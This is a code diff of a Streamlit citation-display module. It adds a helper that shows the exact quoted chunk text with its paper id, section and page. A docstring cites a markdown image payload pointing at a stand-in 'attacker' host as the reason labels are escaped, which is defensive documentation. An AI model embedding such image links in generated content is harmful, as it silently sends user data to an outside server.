@@ -8,7 +8,8 @@ report exports use, so a downloaded file is as inert as the page.
 
 Streamlit renders Markdown in labels (buttons, pills, expanders, metrics), including links and
 images, so a title like `![x](http://attacker/?q=...)` would otherwise load an image. Nothing here
-ever passes unsafe_allow_html.
+ever passes unsafe_allow_html (the citation view's page image and marked abstract, ui/passage.py, are
+`st.html` built from numbers and `html.escape`d text).
 """
 
 from __future__ import annotations
@@ -73,7 +74,13 @@ def paper_header(title: str, authors: Iterable[str], year: int | None, url: str 
 def source_body(citation: Citation, key: str) -> None:
     """Inside a source expander: metadata, then the exact chunk text as plain text."""
     paper_header(citation.title, citation.authors, citation.year, citation.url, key)
+    source_text(citation)
+
+
+def source_text(citation: Citation) -> None:
+    """The exact chunk text an answer used, as plain text, under its paper id, section and page."""
     where = f" · {md_escape(section_label(citation.section))}" if citation.section else ""
+    where += f" · page {citation.page}" if citation.page else ""
     st.caption(f"Paper id: {md_escape(citation.id)}{where} · exact text used:")
     plain(citation.text)
 
